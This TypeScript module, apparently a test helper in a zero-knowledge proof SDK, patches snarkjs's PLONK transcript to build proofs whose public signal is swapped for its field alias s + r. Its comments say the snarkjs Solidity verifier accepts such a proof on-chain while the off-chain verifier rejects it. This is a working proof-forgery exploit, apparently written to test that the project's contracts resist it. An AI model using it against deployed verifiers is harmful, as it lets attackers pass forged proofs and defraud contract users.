import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { keccak_256 } from "@noble/hashes/sha3";
import * as snarkjs from "snarkjs";
import type { UniversalProof } from "snarkjs";
import { SNARK_SCALAR_FIELD as R } from "../../../sdk/core/src/layout/publicSignals.ts";
import { encodeProof } from "../../../sdk/core/src/prove/encodeProof.ts";

/** snarkjs's PLONK Fiat-Shamir transcript (the module its prover imports, patched below). */
interface Transcript {
  Fr: { n8: number; toRprBE(b: Uint8Array, o: number, e: unknown): void; e(v: bigint): unknown };
  G1: { F: { n8: number }; toRprUncompressed(b: Uint8Array, o: number, p: unknown): void };
  data: { type: number; data: unknown }[];
  getChallenge(): unknown;
}

const snarkjsRoot = dirname(fileURLToPath(import.meta.resolve("snarkjs")));
const { Keccak256Transcript } = (await import(
  pathToFileURL(join(snarkjsRoot, "src", "Keccak256Transcript.js")).href
)) as { Keccak256Transcript: { prototype: Transcript } };

/** The 8 verification-key commitments that open the transcript of PLONK's beta challenge. */
const VK_COMMITMENTS = 8;

/**
 * A real PLONK proof for the public signals with signal `index` replaced by its alias
 * `s + r`: what anyone who can prove `s` can make. The snarkjs Solidity verifier hashes the
 * signals into the beta challenge as given but uses them mod r everywhere else, so the proof
 * verifies on-chain if the transcript hashes `s + r`; snarkjs's prover is run with its
 * transcript hashing that alias (snarkjs's off-chain verifier reduces the signals before
 * hashing them, so it rejects this proof; the on-chain one accepts it).
 */
export async function aliasedPlonkProof(p: {
  input: Record<string, unknown>;
  wasm: string;
  zkey: string;
  index: number;
}): Promise<{ proofBytes: `0x${string}`; publicSignals: bigint[] }> {
  const proto = Keccak256Transcript.prototype;
  const original = proto.getChallenge;
  let aliased: bigint | undefined;
  proto.getChallenge = function (this: Transcript) {
    const scalars = this.data.filter((d) => d.type === 1).length;
    const isBeta =
      this.data.length > VK_COMMITMENTS &&
      this.data.slice(0, VK_COMMITMENTS).every((d) => d.type === 0) &&
      scalars === this.data.length - VK_COMMITMENTS - 3;
    if (!isBeta) return original.call(this);
    const point = this.G1.F.n8 * 2;
    const buffer = new Uint8Array(scalars * this.Fr.n8 + (this.data.length - scalars) * point);
    let offset = 0;
    for (const d of this.data) {
      if (d.type === 0) this.G1.toRprUncompressed(buffer, offset, d.data);
      else this.Fr.toRprBE(buffer, offset, d.data);
      offset += d.type === 0 ? point : this.Fr.n8;
    }
    const at = VK_COMMITMENTS * point + p.index * this.Fr.n8;
    const s = BigInt("0x" + Buffer.from(buffer.subarray(at, at + 32)).toString("hex"));
    aliased = s + R;
    buffer.set(Buffer.from(aliased.toString(16).padStart(64, "0"), "hex"), at);
    return this.Fr.e(BigInt("0x" + Buffer.from(keccak_256(buffer)).toString("hex")));
  };
  try {
    const r = await snarkjs.plonk.fullProve(p.input, p.wasm, p.zkey);
    if (aliased === undefined) throw new Error("the beta transcript was never built");
    const publicSignals = r.publicSignals.map(BigInt);
    publicSignals[p.index] = aliased;
    return {
      proofBytes: encodeProof({ system: "plonk", proof: r.proof as UniversalProof }),
      publicSignals,
    };
  } finally {
    proto.getChallenge = original;
  }
}
